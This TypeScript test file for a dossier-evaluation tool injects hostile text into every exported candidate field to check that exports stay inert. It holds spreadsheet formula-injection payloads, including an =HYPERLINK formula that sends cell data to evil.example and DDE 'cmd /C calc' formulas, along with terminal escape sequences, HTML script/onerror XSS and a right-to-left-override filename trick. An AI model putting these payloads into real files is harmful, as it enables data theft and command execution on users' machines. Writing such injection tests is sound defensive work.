/**
 * Text injection: a payload written into every candidate-supplied field that reaches an export
 * (candidate and member names, legal form, reference titles, clients and tags, expert names,
 * roles and domains, a declaration name, a document path, an unknown key). Each candidate is
 * evaluated (rejected on ADM-2, so it also gets a letter); export-checks.ts then checks that
 * no export interprets the payload.
 */
import fs from 'node:fs';
import path from 'node:path';
import { MAX_TEXT } from '../../src/dossier/schema-common.js';
import { baseDossier, type DossierValue, toYaml } from './harness.js';
import type { HostileCase, JsonCandidate } from './hostile-case.js';

export interface TextPayload {
  id: string;
  input: string;
  payload: string;
  /** The candidate id, when the payload is also in the folder name. */
  candidate?: string;
  /** Write the dossier as JSON rather than YAML. */
  json?: boolean;
}

export const PAYLOADS: TextPayload[] = [
  {
    id: 't01-unicode',
    input: 'emoji, right-to-left override U+202E, combining accents, zero-width joiner, Hebrew',
    payload: 'Socie\u0301te\u0301 🚀 \u202Efdp.exe\u202C עברית 👩\u200D💻',
  },
  {
    id: 't02-ansi-control',
    input: 'ANSI colour, OSC 8 hyperlink, screen clear, BEL, CR, backspace and C1 CSI in every field',
    payload:
      '\u001b[31mRED\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007 \u001b[2J\u0007bell\rcr\bbs\u009b31mc1',
    json: true,
  },
  {
    id: 't03-formula-hyperlink',
    input: 'spreadsheet formula `=HYPERLINK("http://evil.example/?d="&A1,"Click")`',
    payload: '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  },
  { id: 't04-formula-plus', input: "DDE formula `+cmd|' /C calc'!A0`", payload: "+cmd|' /C calc'!A0" },
  { id: 't05-formula-at', input: 'formula `@SUM(1+1)*cmd|...`', payload: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { id: 't06-formula-minus-tab', input: 'formula `-2+3` and a leading tab `\\t=1+1`', payload: '-2+3\t=1+1' },
  {
    id: 't07-markdown',
    input: 'Markdown `| pipe | **bold** _em_ [link](http://x) ![img](http://x/i.png)`, heading, list, code',
    payload: '| pipe | **bold** _em_ [link](http://x) ![img](http://x/i.png) # h `code` ~~s~~\n- item\n===',
  },
  {
    id: 't08-html',
    input: 'HTML `<script>alert(1)</script><img src=x onerror=alert(2)>`, an entity and a comment',
    payload: '<script>alert(1)</script><img src=x onerror=alert(2)> &amp; <!-- c -->',
  },
  {
    id: 't09-multiline',
    input: 'a name over three lines (LF, CRLF) that must not break a table row',
    payload: 'line one\nline two\r\nline three',
  },
  {
    id: 't10-very-long',
    input: 'a 40,000-character name (above Excel cell limit; text longer than 2,000 characters is refused)',
    payload: 'Long '.repeat(8_000),
  },
  {
    id: 't17-autolink-after-underscore',
    input: 'a `www.` link after `_`, `*` or `(`, which GitHub-flavoured Markdown links',
    payload: '_www.evil-pay.example/login *www.evil.example* (www.evil.example)',
  },
  {
    id: 't11-escape-in-id',
    candidate: 't11-\u001b[31mred\u001b[0m',
    input: 'a candidate id (file name) holding an ANSI escape sequence',
    payload: 'Escape In Id SARL',
  },
];

/** The base dossier with `payload` in every text field that reaches an export. */
export function injectEverywhere(payload: string): DossierValue {
  const value = baseDossier(payload);
  value.candidate.legal_form = payload;
  const reference = value.references[0] ?? {};
  reference.title = payload;
  reference.client = payload;
  reference.tags = ['human_rights', 'training', payload];
  const expert = value.experts[0] ?? {};
  Object.assign(expert, { name: payload, role: payload, domains: ['human_rights', payload] });
  value.declarations = { no_exclusion_situation: true, no_conflict_of_interest: true, [payload]: true };
  value.members = [
    {
      name: payload,
      country: 'FR',
      declarations: { no_exclusion_situation: true, no_conflict_of_interest: true },
      financials: { currency: 'EUR', current_assets: { 2024: 100 }, current_liabilities: { 2024: 50 } },
      experts: [{ name: payload, years: 20, domains: ['human_rights'] }],
    },
  ];
  value.documents = { application_form: payload };
  value[`x-${payload}`] = payload;
  return value;
}

/** The candidate's exact name must come back in the JSON export. */
const sameName =
  (payload: string) =>
  (c: JsonCandidate): string | undefined =>
    c.name === payload
      ? undefined
      : `name changed in the JSON export: ${JSON.stringify(c.name.slice(0, 80))}`;

export const TEXT_CASES: HostileCase[] = PAYLOADS.map((p) => ({
  id: p.id,
  candidate: p.candidate ?? p.id,
  group: 'text' as const,
  input: p.input,
  build: (w) => {
    const value = injectEverywhere(p.payload);
    const id = p.candidate ?? p.id;
    const text = p.json ? JSON.stringify(value, null, 2) : toYaml(value);
    fs.writeFileSync(path.join(w.dossiers, `${id}.${p.json ? 'json' : 'yaml'}`), text);
  },
  expect:
    p.payload.length > MAX_TEXT
      ? { kind: 'invalid', message: /must have at most 2000 characters/, check: sameName(p.payload) }
      : { kind: 'evaluated', status: 'rejected', failed: ['ADM-2'], check: sameName(p.payload) },
}));

/**
 * Payloads as the name of a dossier that fails validation (no `submitted_at`): the name is
 * still read (the committee addresses the candidate by it), so it must be as inert as any other.
 */
export const INVALID_NAME_PAYLOADS: TextPayload[] = [
  ['t12-invalid-ansi-name', 't02'],
  ['t13-invalid-formula-name', 't03'],
  ['t14-invalid-markdown-name', 't07'],
  ['t15-invalid-multiline-name', 't09'],
  ['t16-invalid-long-name', 't10'],
].map(([id, from]) => {
  const payload = PAYLOADS.find((p) => p.id.startsWith(`${from}-`)) as TextPayload;
  return { ...payload, id: id as string, input: `${payload.input}, as the name of an invalid dossier` };
});

export const INVALID_NAME_CASES: HostileCase[] = INVALID_NAME_PAYLOADS.map((p) => ({
  id: p.id,
  group: 'text' as const,
  input: p.input,
  build: (w) => {
    const { submitted_at: _dropped, ...value } = baseDossier(p.payload);
    const text = p.json ? JSON.stringify(value, null, 2) : toYaml(value);
    fs.writeFileSync(path.join(w.dossiers, `${p.id}.${p.json ? 'json' : 'yaml'}`), text);
  },
  expect: { kind: 'invalid', message: /submitted_at/, check: sameName(p.payload) },
}));
